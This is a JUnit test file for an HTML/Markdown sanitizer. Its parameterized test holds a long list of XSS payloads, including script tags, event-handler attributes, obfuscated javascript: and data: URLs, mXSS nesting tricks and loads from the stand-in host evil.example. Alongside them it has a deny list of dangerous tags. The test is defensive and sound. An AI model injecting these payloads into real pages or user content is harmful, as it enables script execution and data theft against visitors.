package dev.fortnight.note;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RawHtmlTest {

  private static final List<String> NEVER =
      List.of(
          "script",
          "style",
          "iframe",
          "frame",
          "frameset",
          "object",
          "embed",
          "applet",
          "form",
          "input",
          "button",
          "textarea",
          "select",
          "base",
          "meta",
          "link",
          "svg",
          "math",
          "template",
          "noscript",
          "video",
          "audio",
          "source",
          "dialog",
          "slot",
          "portal",
          "marquee",
          "title");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/src=data:,alert(1)>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)",
        "</p><script>alert(1)</script><p>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml <script>alert(1)</script> ?>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img src=`x` onerror=alert(1)>",
        "<img src=javascript:alert(1)>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img srcset='//evil.example/x 1x' src=a.png>",
        "<p onclick=alert(1)>x</p>",
        "<p ONMOUSEOVER = 'alert(1)'>x</p>",
        "<details open ontoggle=alert(1)>x</details>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='feed:javascript:alert(1)'>x</a>",
        "<a href=x style='background:url(//evil.example)'>x</a>",
        "<a href=x target=_blank ping=//evil.example>x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/png;base64,AAAA)",
        "[x](a.md \"\"onmouseover=alert(1) \")",
        "![x\" onerror=\"alert(1)](a.png)",
        "<style>@import '//evil.example/x.css'</style>",
        "<p style='position:fixed'>x</p>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<template><script>alert(1)</script></template>",
        "<video src=//evil.example onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio autoplay src=//evil.example></audio>",
        "<body onload=alert(1)><html onfocus=alert(1)>",
        "<x onclick=alert(1) id=y>z</x>",
        "<p id='a\" onclick=\"alert(1)'>x</p>",
        "<p class='evidence\" onclick=\"alert(1)'>x</p>",
        "<a name=y href=x formaction=z>x</a>",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        "> x\n{: #q1 .evidence onclick=\"alert(1)\" style=\"color:red\"}",
      })
  void nothingThatRunsLoadsOrSendsComesThrough(String hostile) {
    Document page =
        Jsoup.parseBodyFragment(ReadNotes.escapedHtml("Before.\n\n" + hostile + "\n\nAfter.\n"));

    for (Element element : page.body().getAllElements()) {
      assertThat(NEVER).doesNotContain(element.tagName().toLowerCase(Locale.ROOT));
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey())
            .isIn(
                "id",
                "class",
                "title",
                "href",
                "src",
                "alt",
                "role",
                "tabindex",
                "aria-label",
                "width",
                "height",
                "lang",
                "dir");
        if (attribute.getKey().equals("href") || attribute.getKey().equals("src")) {
          assertThat(
                  attribute.getValue().replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT))
              .doesNotStartWith("javascript:")
              .doesNotStartWith("vbscript:")
              .doesNotStartWith("data:")
              .doesNotStartWith("feed:")
              .doesNotStartWith("//");
        }
      }
    }
  }

  @Test
  void honestHtmlStays() {
    assertThat(
            ReadNotes.html(
                """
                <details><summary>More</summary>

                Text with <kbd>Ctrl</kbd>, H<sub>2</sub>O and <abbr title="National Health Service">NHS</abbr>.

                </details>

                <figure><img src="a.png" alt="A" width="20"><figcaption>B</figcaption></figure>
                """))
        .isEqualTo(
            """
            <details><summary>More</summary>
            <p>Text with <kbd>Ctrl</kbd>, H<sub>2</sub>O and <abbr title="National Health Service">NHS</abbr>.</p>
            </details>
            <figure><img src="a.png" alt="A" width="20" /><figcaption>B</figcaption></figure>
            """);
  }

  @Test
  void anElementLeftOpenIsClosedAtTheEndOfTheText() {
    assertThat(ReadNotes.html("<div><b>open\n")).isEqualTo("<div><b>open\n</b></div>");
  }
}
